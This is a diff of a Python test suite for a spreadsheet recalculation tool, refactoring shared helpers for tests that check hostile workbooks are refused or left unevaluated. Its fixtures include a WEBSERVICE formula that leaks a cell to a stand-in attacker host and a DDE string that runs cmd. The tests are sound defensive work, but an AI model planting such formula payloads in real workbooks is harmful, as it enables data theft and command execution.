@@ -7,12 +7,9 @@ code, its one-line message, that the input is unchanged and that no copy is left
 
 from __future__ import annotations
 
-import hashlib
 import os
 import re
-import resource
 import subprocess
-import sys
 import tempfile
 import zipfile
 from pathlib import Path
@@ -27,6 +24,8 @@ from openpyxl.worksheet.formula import ArrayFormula
 from bcf_xl import cli, recalc
 from bcf_xl.errors import BcfInputError
 from bcf_xl.recalc import MAX_DEPTH, MAX_FORMULAS, MAX_RANGE_CELLS, recalculate, write_values
+from tests import commands
+from tests.commands import digest
 
 MEMORY_LIMIT = 500 * 2**20
 TIMEOUT = 120  # seconds: generous, the machine is shared; the work itself takes a few seconds
@@ -35,10 +34,6 @@ SECRET_NUMBER = 987654321
 SECRET_TEXT = "TOP SECRET figures"
 WEBSERVICE = '=WEBSERVICE("http://attacker.invalid/?leak="&A3)'
 DDE = "=cmd|' /C calc'!A0"
-
-
-def _digest(path: Path) -> str:
-    return hashlib.sha256(path.read_bytes()).hexdigest()
 
 
 def _as_text(cell: Any, text: str) -> None:
@@ -66,30 +61,19 @@ def _all_text(path: Path) -> str:
 def _run_recalc(workbook: Path, out: Path, temp: Path) -> subprocess.CompletedProcess[str]:
     """`bcf-xl recalc` in a subprocess limited to MEMORY_LIMIT of address space, with its own temp folder."""
 
-    def limit_memory() -> None:
-        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
-
     temp.mkdir(exist_ok=True)
     env = {**os.environ, "TMPDIR": str(temp), "OPENBLAS_NUM_THREADS": "1"}
-    return subprocess.run(
-        [sys.executable, "-m", "bcf_xl.cli", "recalc", str(workbook), "-o", str(out)],
-        capture_output=True,
-        text=True,
-        timeout=TIMEOUT,
-        preexec_fn=limit_memory,
-        env=env,
-        check=False,
-    )
+    return commands.bcf_xl("recalc", workbook, "-o", out, cwd=Path.cwd(), memory=MEMORY_LIMIT, timeout=TIMEOUT, env=env)
 
 
 def _assert_refused(path: Path, tmp_path: Path, message: str) -> None:
     """recalc of `path` under the memory limit exits 2 with exactly `message`, writes nothing, changes nothing."""
-    before = _digest(path)
+    before = digest(path)
     out = tmp_path / "values.xlsx"
     done = _run_recalc(path, out, tmp_path / "temp")
     assert (done.returncode, done.stderr, done.stdout) == (2, f"bcf-xl: {message}\n", "")
     assert not out.exists()
-    assert _digest(path) == before
+    assert digest(path) == before
     assert list((tmp_path / "temp").iterdir()) == []
 
 
@@ -128,7 +112,7 @@ def test_text_starting_with_equals_is_not_evaluated(formula_text: Path) -> None:
 
 def test_values_copy_holds_no_formula(formula_text: Path, tmp_path: Path) -> None:
     """The copy holds every result as a value, text results as text, and no <f> element at all."""
-    before = _digest(formula_text)
+    before = digest(formula_text)
     out = tmp_path / "values.xlsx"
     write_values(recalculate(formula_text), out)
     assert _formula_elements(formula_text)  # the input did hold formulas
@@ -145,7 +129,7 @@ def test_values_copy_holds_no_formula(formula_text: Path, tmp_path: Path) -> Non
         ("Calc", "B2"): (10, "n"),
         ("Calc", "B3"): (DDE, "s"),
     }
-    assert _digest(formula_text) == before
+    assert digest(formula_text) == before
 
 
 def test_a_formula_openpyxl_does_not_hold_as_text_never_reaches_the_copy(tmp_path: Path) -> None:
@@ -209,7 +193,7 @@ def linked(tmp_path: Path) -> Path:
 
 def test_references_to_other_workbooks_are_reported_and_left_unevaluated(linked: Path, tmp_path: Path) -> None:
     """Each formula naming another workbook is an error at its cell, valued #REF!; the other file never shows."""
-    before = _digest(linked)
+    before = digest(linked)
     result = recalculate(linked)
     assert [(f.code, f.location.cell) for f in result.findings if f.code == "RECALC03"] == [
         ("RECALC03", cell) for cell in ["B1", "B2", "B3", "B4", "B5"]
@@ -225,7 +209,7 @@ def test_references_to_other_workbooks_are_reported_and_left_unevaluated(linked:
     assert SECRET_TEXT not in text
     assert "secret.xlsx" not in text  # the defined name that pointed there is gone too
     assert _formula_elements(out) == []
-    assert _digest(linked) == before
+    assert digest(linked) == before
 
 
 def test_the_engine_itself_refuses_a_second_workbook(linked: Path) -> None:
@@ -261,14 +245,14 @@ def test_a_fifo_named_as_the_other_workbook_does_not_hang(tmp_path: Path) -> Non
     calc["A3"] = "=1+1"
     path = work / "plan.xlsx"
     book.save(path)
-    before = _digest(path)
+    before = digest(path)
     out = work / "values.xlsx"
     done = _run_recalc(path, out, tmp_path / "temp")
     assert done.returncode == 1, done.stderr
     assert "Error RECALC03 'Calc'!A1: refers to another workbook" in done.stdout
     assert "Error RECALC03 'Calc'!A2: refers to another workbook" in done.stdout
     assert openpyxl.load_workbook(out)["Calc"]["A3"].value == 2
-    assert _digest(path) == before
+    assert digest(path) == before
     assert list((tmp_path / "temp").iterdir()) == []
 
 
